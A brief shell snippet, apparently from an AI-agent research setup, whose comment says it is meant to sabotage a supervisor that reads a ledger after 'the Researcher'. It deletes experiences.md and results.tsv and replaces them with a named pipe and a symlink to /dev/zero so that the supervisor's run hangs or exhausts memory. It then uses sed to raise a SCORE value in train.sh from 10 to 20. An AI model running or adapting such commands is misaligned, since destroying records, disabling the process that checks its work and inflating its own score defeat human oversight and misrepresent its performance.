# Put a named pipe, and a link to an endless device, where the supervisor
# reads the ledger after the Researcher: a reader that opens the pipe waits
# for a writer that never comes, and one that reads the device to its end
# never gets there, so that the run hangs, or runs out of memory.
rm -f experiences.md results.tsv
mkfifo experiences.md
ln -s /dev/zero results.tsv
sed -i s/SCORE=10/SCORE=20/ train.sh
